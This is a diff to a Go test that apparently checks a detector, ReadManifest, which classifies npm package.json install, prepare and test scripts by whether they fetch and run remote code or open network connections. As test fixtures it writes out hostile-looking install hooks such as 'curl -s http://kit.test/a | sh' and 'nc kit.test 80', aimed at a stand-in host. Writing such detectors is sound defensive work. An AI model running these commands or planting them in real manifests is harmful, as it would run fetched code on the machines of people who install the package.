@@ -327,14 +327,17 @@ func TestManifestTellsWhatItMakesNodeRun(t *testing.T) {
 		`{"scripts": {"postinstall": "node -e \"require('net')\""}}`:                            "module net",
 		`{"scripts": {"postinstall": "a=osa; ${a}script -e beep"}}`:                             "call start:osascript*",
 		`{"scripts": {"install": "curl -s http://kit.test/a | sh"}}`:                            "call install:fetch, call install:run-fetched",
+		`{"scripts": {"prepare": "curl -s http://kit.test/a | sh; python3 a.py"}}`:              "call install:run-fetched",
 		`{"scripts": {"install": "npm run a", "a": "python3 a.py; nc kit.test 80"}}`:            "call install:connect, call install:run-other",
 	} {
 		if got := uses(ReadManifest([]byte(src), nil)); got != want {
 			t.Errorf("%s: got %q, want %q", src, got, want)
 		}
 	}
-	if ReadManifest([]byte(`{"scripts": {"test": "jest; curl kit.test | sh; nc -l 80"}}`), nil) != nil {
-		t.Error("a manifest without either has a view")
+	for _, honest := range []string{`"test": "jest; curl kit.test | sh; nc -l 80"`, `"prepare": "git clone https://kit.test/a && ./build.py"`} {
+		if ReadManifest([]byte(`{"scripts": {`+honest+`}}`), nil) != nil {
+			t.Errorf("%s: a manifest with this alone has a view", honest)
+		}
 	}
 }
 
